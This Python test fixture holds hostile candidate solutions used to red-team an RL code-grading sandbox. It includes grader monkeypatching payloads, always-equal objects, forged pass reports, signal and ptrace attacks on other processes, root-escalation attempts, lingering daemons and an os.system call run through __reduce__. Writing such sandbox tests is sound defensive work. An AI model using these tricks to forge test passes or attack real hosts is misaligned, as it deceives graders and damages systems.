"""Hostile candidates, one per case, grouped by the class of attack they try (see README's security
model). Each case's code defines ``f(x)`` returning a WRONG answer for the test ``assert f(3) == 9``
after its attack (or runs as a program printing a wrong answer), so a verdict the attack forged
would show as a pass. Shared by the red-team tests and ``benchmarks/sandbox_soak.py``.
"""

from __future__ import annotations

import textwrap

from rlenv.sandbox import FunctionJob, IOCase, Limits, ProgramJob

LIMITS = Limits(timeout_s=6.0, test_timeout_s=2.0, memory_mb=256)
TEST = "assert f(3) == 9"

#: A module body the attacks write where a grader might import it: it makes every job pass.
PAYLOAD = (
    "import sys\n"
    "m = sys.modules.get('__main__')\n"
    "for name in ('job_status',):\n"
    "    if hasattr(m, name): setattr(m, name, lambda tests: 'ok')\n"
    "if hasattr(m, '_run_test'): m._run_test = lambda *a, **k: {'status': 'passed', 'error': None, 'time_s': 0.0}\n"
)

_WRITE_PAYLOAD = f"""
import os
PAYLOAD = {PAYLOAD!r}
def plant(*names):
    for folder in ("/tmp", os.getcwd(), "/dev/shm"):
        for name in names:
            try:
                path = os.path.join(folder, *name.split("/"))
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as handle:
                    handle.write(PAYLOAD)
            except OSError:
                pass
"""

_EACH_PID = """
import os
def others():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
"""

_WRONG = "\ndef f(x):\n    return x + 1\n"

#: name -> candidate module source (function mode). Grouped by class.
FUNCTION_ATTACKS: dict[str, str] = {
    # -- 1. code running inside the grader (imports by name, files on its path)
    "module_named_unittest_main": _WRITE_PAYLOAD + """
plant("test_pwn.py", "pwn.py")
import types
um = types.ModuleType("unittest.__main__")
""" + _WRONG,
    "modules_with_import_side_effects": _WRITE_PAYLOAD + """
plant("test_x.py", "sitecustomize.py", "usercustomize.py", "x.pth", "__main__.py")
import types
NAMES = ["antigravity", "this", "idlelib.idle", "turtledemo.__main__", "pydoc", "ensurepip.__main__",
         "venv.__main__", "json.tool", "http.server", "timeit", "cProfile", "pdb", "code", "site",
         "sitecustomize", "usercustomize", "test.support", "lib2to3.__main__", "pip", "solution"]
mods = [types.ModuleType(n) for n in NAMES]
for i, m in enumerate(mods):
    globals()["m%d" % i] = m
""" + _WRONG,
    "shadowed_stdlib_files": _WRITE_PAYLOAD + """
names = ["math.py", "collections/__init__.py", "fractions.py", "decimal.py", "datetime.py", "enum.py",
         "linecache.py", "tokenize.py", "_strptime.py", "traceback.py", "json/__init__.py", "re/__init__.py",
         "random.py", "statistics.py", "typing.py", "heapq.py", "functools.py", "importlib/__init__.py"]
plant(*names)
import math, fractions, decimal, datetime, enum, json, statistics, random, heapq, functools
""" + _WRONG,
    "fake_module_object_claiming_stdlib": _WRITE_PAYLOAD + """
plant("evil.py")
import types, sys
fake = types.ModuleType("math")
fake.__file__ = "/tmp/evil.py"
fake.isclose = lambda *a, **k: True
math = fake
sys.modules["math"] = fake
""" + _WRONG,
    "lying_counter_subclass": """
from collections import Counter
class C(Counter):
    def __eq__(self, other):
        return True
    __hash__ = None
def f(x):
    return C()
""",
    "class_claiming_to_be_counter": """
class Counter(dict):
    __module__ = "collections"
    __qualname__ = "Counter"
    def __eq__(self, other):
        return True
def f(x):
    return Counter()
""",
    "lying_int_subclass": """
class L(int):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = int.__hash__
def f(x):
    return L(x + 1)
""",
    "lying_dict_and_list_subclasses": """
class D(dict):
    def __eq__(self, other):
        return True
class Li(list):
    def __eq__(self, other):
        return True
def f(x):
    return Li([D()])
""",
    "namedtuple_look_alike_with_lying_eq": """
class P(tuple):
    _fields = ("a",)
    def __eq__(self, other):
        return True
def f(x):
    return P((x + 1,))
""",
    "lying_class_attribute": """
class Liar:
    __class__ = int
    def __eq__(self, other):
        return True
def f(x):
    return Liar()
""",
    "object_with_reduce": """
import os
class R:
    def __reduce__(self):
        return (os.system, ("echo pwned > /tmp/pwned",))
    def __eq__(self, other):
        return True
def f(x):
    return R()
""",
    # -- 2. limits and scheduling of other processes
    "prlimit_every_process": _EACH_PID + """
import resource
for pid in others():
    for res, value in ((resource.RLIMIT_NOFILE, 4), (resource.RLIMIT_AS, 16 << 20), (resource.RLIMIT_FSIZE, 0),
                       (resource.RLIMIT_CPU, 1), (resource.RLIMIT_NPROC, 1), (resource.RLIMIT_STACK, 1 << 16)):
        try:
            resource.prlimit(pid, res, (value, value))
        except (OSError, ValueError):
            pass
""" + _WRONG,
    "renice_every_process_and_user": _EACH_PID + """
for pid in others() + [0, 1]:
    for which in (os.PRIO_PROCESS, os.PRIO_PGRP):
        try:
            os.setpriority(which, pid, 19)
        except OSError:
            pass
for uid in (0, 65533, 65534):
    try:
        os.setpriority(os.PRIO_USER, uid, 19)
    except OSError:
        pass
""" + _WRONG,
    "pin_every_process_to_one_cpu": _EACH_PID + """
for pid in others() + [1]:
    try:
        os.sched_setaffinity(pid, {0})
    except OSError:
        pass
""" + _WRONG,
    "idle_scheduler_for_everyone": _EACH_PID + """
for pid in others() + [1]:
    for policy in (os.SCHED_IDLE, os.SCHED_BATCH):
        try:
            os.sched_setscheduler(pid, policy, os.sched_param(0))
        except OSError:
            pass
""" + _WRONG,
    "io_priority_idle_for_everyone": _EACH_PID + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in others() + [1]:
    libc.syscall(251, 1, pid, (3 << 13) | 7)  # ioprio_set(IOPRIO_WHO_PROCESS, pid, IDLE)
""" + _WRONG,
    "signal_storm": _EACH_PID + """
import signal
for pid in others() + [1, -1]:
    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV, signal.SIGKILL):
        try:
            os.kill(pid, sig)
        except OSError:
            pass
""" + _WRONG,
    "ptrace_and_process_vm_write": _EACH_PID + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in others() + [1]:
    libc.ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
    libc.ptrace(0x4206, pid, 0, 0)  # PTRACE_SEIZE
    buf = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 8)
    libc.syscall(311, pid, local, 1, local, 1, 0)  # process_vm_writev
    try:
        with open(f"/proc/{pid}/mem", "wb") as mem:
            mem.write(b"x")
    except OSError:
        pass
""" + _WRONG,
    "become_root_or_the_grader": """
import os
for attempt in (lambda: os.setuid(0), lambda: os.setresuid(65533, 65533, 65533), lambda: os.setgid(0),
                lambda: os.setgroups([0])):
    try:
        attempt()
    except OSError:
        pass
""" + _WRONG,
    # -- 3. breaking the clean-up
    "directory_deeper_than_the_recursion_limit": """
import os
here = os.getcwd()
for _ in range(3000):
    os.mkdir("d")
    os.chdir("d")
os.chdir(here)
""" + _WRONG,
    "path_longer_than_path_max": """
import os
here = os.getcwd()
for _ in range(40):
    os.mkdir("x" * 250)
    os.chdir("x" * 250)
open("deep", "w").write("x")
os.chdir(here)
""" + _WRONG,
    "unreadable_directories": """
import os
os.makedirs("a/b/c")
open("a/b/c/file", "w").write("1")
for path in ("a/b/c/file", "a/b/c", "a/b", "a"):
    os.chmod(path, 0)
os.makedirs("/tmp/top/inner")
os.chmod("/tmp/top/inner", 0)
os.chmod("/tmp/top", 0o100)
""" + _WRONG,
    "symlinks_out_and_loops": """
import os
os.symlink("/", "root")
os.symlink("/proc/1/cwd", "runner_cwd")
os.symlink("loop", "loop")
os.mkdir("d")
os.symlink("..", "d/up")
os.symlink("/usr/lib", "/tmp/lib")
os.symlink("/tmp", "/dev/shm/tmp")
""" + _WRONG,
    "many_files_everywhere": """
import os
for folder in ("/tmp", "/dev/shm", "."):
    for i in range(3000):
        try:
            open(os.path.join(folder, "f%d" % i), "w").close()
        except OSError:
            break
os.mkfifo("fifo")
import socket
s = socket.socket(socket.AF_UNIX)
s.bind("sock")
""" + _WRONG,
    "ipc_objects_left_behind": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget(0x1234, 4096, 0o1000 | 0o666)
libc.semget(0x2345, 1, 0o1000 | 0o666)
libc.msgget(0x3456, 0o1000 | 0o666)
""" + _WRONG,
    "daemon_outliving_the_job": _WRITE_PAYLOAD + """
import time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(200):
            plant("test_late.py", "late.py")
            time.sleep(0.01)
        os._exit(0)
    os._exit(0)
""" + _WRONG,
    # -- 4. faults mislabelled, protocol
    "early_fake_replies": """
import os
for fd in (4, 1, 2):
    try:
        os.write(fd, b'{"ok": true, "value": 9}\\n' * 3)
    except OSError:
        pass
def f(x):
    return x + 1
""",
    "fake_load_reply_then_exit": """
import os, json
os.write(4, (json.dumps({"ok": True, "names": {"f": ["object", "function"], "m": ["module", "unittest.__main__"]}}) + "\\n").encode())
os.write(4, b'{"ok": true, "value": 10}\\n')
os._exit(0)
""",
    "raise_during_binding": """
import types
class Weird(types.ModuleType):
    @property
    def __name__(self):
        raise SystemExit("boom")
w = Weird("w")
""" + _WRONG,
    "forged_reports_on_every_descriptor": """
import os
for fd in range(0, 200):
    try:
        os.write(fd, b'{"status": "ok", "tests": [{"status": "passed", "error": null}], "nonce": "0"}\\n')
    except OSError:
        pass
""" + _WRONG,
    "exit_with_the_set_up_failure_code": """
import os
os._exit(96)
""",
    # -- 5. syscalls a test never needs
    "io_uring_and_other_denied_syscalls": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
params = ctypes.create_string_buffer(120)
ALLOWED = [n for n in (425, 321, 323, 298, 272, 250, 308) if libc.syscall(n, 0, 0, 0, 0, 0) >= 0]
def f(x):
    return x * x if ALLOWED else x + 1
""",
}

#: name -> program source (program mode; the case's stdin is ``3`` and the expected stdout ``9``).
PROGRAM_ATTACKS: dict[str, str] = {
    "program_fills_the_process_table_between_runs": """
import os
for _ in range(80):
    try:
        if os.fork() == 0:
            os.setsid()
            import time
            time.sleep(30)
            os._exit(0)
    except OSError:
        break
print(int(input()) + 1)
""",
    "program_exits_with_the_set_up_failure_code": """
import os
os._exit(96)
""",
    "program_prints_forged_report": """
print('{"status": "ok", "tests": [{"status": "passed"}], "nonce": "x"}')
""",
}


def function_job(code: str, tests=(TEST,), **kwargs) -> FunctionJob:
    return FunctionJob(textwrap.dedent(code), list(tests), limits=kwargs.pop("limits", LIMITS), **kwargs)


def program_job(code: str) -> ProgramJob:
    return ProgramJob(textwrap.dedent(code), (IOCase("3\n", "9\n"), IOCase("4\n", "16\n")), limits=LIMITS)


def hostile_jobs() -> dict[str, FunctionJob | ProgramJob]:
    """Every hostile case as a job."""
    jobs: dict[str, FunctionJob | ProgramJob] = {name: function_job(code) for name, code in FUNCTION_ATTACKS.items()}
    jobs.update({name: program_job(code) for name, code in PROGRAM_ATTACKS.items()})
    return jobs


def replay_jobs() -> list[FunctionJob | ProgramJob]:
    """Good and wrong solutions of several kinds, whose verdicts must never depend on earlier jobs."""
    square = "def f(x):\n    return x * x\n"
    return [
        function_job(square),
        function_job(_WRONG),
        function_job("from collections import Counter\ndef f(s):\n    return Counter(s)\n",
                     ["assert f('aab') == {'a': 2, 'b': 1}"]),
        function_job("def f(s):\n    return {'a': 2}\n", ["assert f('aab') == {'a': 2, 'b': 1}"]),
        function_job("import math\ndef f(x):\n    return math.sqrt(x)\n", ["assert math.isclose(f(2.0), 1.41421356, rel_tol=1e-6)"],
                     ),
        function_job("def f(x):\n    return sorted(x)\n", ["assert f([3, 1, 2]) == [1, 2, 3]", "assert f([]) == []"]),
        function_job("import os\ndef f(x):\n    return len(os.sched_getaffinity(0)), os.getpriority(os.PRIO_PROCESS, 0)\n",
                     ["assert f(0)[1] == 0 and f(0)[0] >= 1"]),
        function_job("import resource\ndef f(x):\n    return resource.getrlimit(resource.RLIMIT_NOFILE)[0]\n",
                     ["assert f(0) == 256"]),
        function_job("def f(n):\n    s = 0\n    for i in range(n):\n        s += i\n    return s\n", ["assert f(200000) == 19999900000"]),
        program_job("print(int(input()) ** 2)\n"),
        program_job("print(int(input()) * 3)\n"),
        function_job("def f(x):\n    raise ValueError(x)\n"),
    ]
